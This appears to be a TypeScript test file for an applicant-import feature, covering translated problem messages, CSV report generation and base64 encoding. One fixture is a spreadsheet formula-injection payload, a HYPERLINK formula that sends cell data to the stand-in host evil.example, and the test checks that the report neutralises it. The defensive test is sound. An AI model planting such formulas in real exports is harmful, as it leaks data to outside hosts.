import { describe, expect, it } from 'vitest';
import type { ImportReport } from '../../../../shared/contract/import';
import { importProblem } from '../../../../shared/import/problems';
import { base64Bytes } from '../../lib/saveFile';
import { translate, type Locale, type MessageKey } from '../../i18n';
import { fileBase64, problemText, reportCsv } from './importText';

const tr = (locale: Locale) => (key: MessageKey, vars?: Record<string, string | number>) => translate(locale, key, vars);

describe('import texts', () => {
  it('a row’s problem reads as the core’s English sentence, and in Indonesian with its field, kind and countries translated', () => {
    const unknown = importProblem('UNKNOWN_VALUE', { row: 4, column: 'D (Negara)', field: 'country' }, { value: 'Narnia', kind: 'COUNTRY' });
    expect(problemText(unknown, 'en', tr('en'))).toBe(unknown.message);
    expect(problemText(unknown, 'id', tr('id'))).toContain('“Narnia”');
    expect(problemText(unknown, 'id', tr('id'))).toContain(translate('id', 'import.kind.COUNTRY'));
    const scope = importProblem('OUT_OF_SCOPE', { row: 3, column: null, field: 'nominatingCountry' }, { country: 'VN', own: 'PH' });
    expect(problemText(scope, 'en', tr('en'))).toContain('nominated by Viet Nam');
    expect(problemText(scope, 'id', tr('id'))).toMatch(/Vietnam|Viet Nam/);
    const missing = importProblem('MISSING', { row: 2, column: null, field: 'givenName' });
    expect(problemText(missing, 'id', tr('id'))).toContain(translate('id', 'import.target.givenName'));
  });

  it('the downloaded report lists every row, and a cell that would run as a formula is neutralised', () => {
    const report: ImportReport = {
      fileName: 'pelamar.xlsx',
      dryRun: false,
      rows: 2,
      added: 1,
      wouldAdd: 1,
      alreadyImported: 0,
      withProblems: 1,
      notWritten: 0,
      failure: null,
      items: [
        { row: 2, name: 'Nguyễn Thị Hương', outcome: 'added', applicationId: '0190aaaa-0000-7000-8000-000000000001', problems: [] },
        { row: 3, name: '=HYPERLINK("http://evil.example/?"&A2)', outcome: 'problems', applicationId: null, problems: [importProblem('FORMULA', { row: 3, column: 'A (Given name)', field: 'givenName' })] },
      ],
    };
    const file = reportCsv(report, 'en', tr('en'));
    expect(file).toMatchObject({ fileName: 'pelamar-import-report.csv', mime: 'text/csv' });
    const text = new TextDecoder().decode(base64Bytes(file.dataBase64));
    const lines = text.replace(/^\ufeff/, '').split('\r\n');
    expect(lines[0]).toBe('Row,Applicant,Outcome,Problems');
    expect(lines[1]).toBe('2,Nguyễn Thị Hương,Added,');
    // Quoted by the CSV rules, and prefixed with ' so no spreadsheet program runs it.
    expect(lines[2]).toBe(`3,"'=HYPERLINK(""http://evil.example/?""&A2)",Not imported: problems,"${report.items[1]!.problems[0]!.message}"`);
    expect(lines).toHaveLength(3);
  });

  it('reads a file’s bytes as base64, whatever their size', async () => {
    const bytes = new Uint8Array(100_000).map((_, i) => (i * 7) % 256);
    const encoded = await fileBase64(new Blob([bytes]));
    expect(Array.from(base64Bytes(encoded))).toEqual(Array.from(bytes));
  });
});
